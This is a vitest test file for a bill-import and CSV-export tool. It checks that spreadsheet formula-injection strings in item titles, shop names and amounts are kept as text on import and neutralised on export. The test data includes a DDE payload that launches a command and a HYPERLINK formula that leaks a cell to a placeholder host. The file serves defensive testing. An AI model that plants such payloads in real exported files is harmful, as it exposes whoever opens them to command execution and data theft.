import { parse } from 'papaparse';
import { expect, test } from 'vitest';
import { readBill } from '@/utils/bills';
import type { ItemRow } from '@/utils/core/rows';
import { listStream } from '@/utils/export/list/write';
import { made } from './files';

/** A cell that a table program would work out: from a bill it is text, and what is written for a table program is guarded. */
const formulas = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '＝1+1',
  '=HYPERLINK("https://a.invalid/?"&A1,"x")',
  "=cmd|'/c calc'!A0",
];

const line = (goods: string, shop: string, sum = '9.90') => {
  const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`;
  return `2026-01-05 10:00:00,日用百货,${quoted(shop)},a***@b,${quoted(goods)},支出,${quoted(sum)},余额宝,交易成功,2026010522000000000000000001\t,T200P4000000000000000101\t,,`;
};

async function exported(title: string, shop: string) {
  const item = {
    key: 'ali:1',
    platform: 'taobao',
    title,
    shop,
    state: 'seen',
    surfaces: [],
    journey: [],
  } as unknown as ItemRow;
  const pages = (async function* () {
    yield await Promise.resolve([item]);
  })();
  const text = await new Response(listStream(pages, { format: 'csv', now: 0 })).text();
  return parse<Record<string, string>>(text.slice(1), { header: true, skipEmptyLines: true }).data[0];
}

test.each(formulas)('%s is a title and a shop like any other, and begins no cell that is written', async (formula) => {
  const [purchase] = readBill(made('alipay', line(formula, formula)), 'bill.csv').found;
  expect(purchase).toMatchObject({ title: formula, shop: formula, orderPaidFen: 990 });
  const row = await exported(purchase?.title ?? '', purchase?.shop ?? '');
  for (const cell of [row?.['title'], row?.['shop']]) {
    expect(cell).toContain(formula);
    expect(cell).toMatch(/^[^=+\-@＝\t\r]/);
  }
});

test.each(['=1+1', '+9.90+1', '@9.90', '-9.90'])('the amount %s is told and not worked out', (sum) => {
  const { found, unread } = readBill(made('alipay', line('示例商品', '示例小店', sum)), 'bill.csv');
  expect(found).toEqual([expect.not.objectContaining({ orderPaidFen: expect.anything() as number })]);
  expect(unread).toEqual([{ where: 'line 3', reason: 'bad-amount' }]);
});
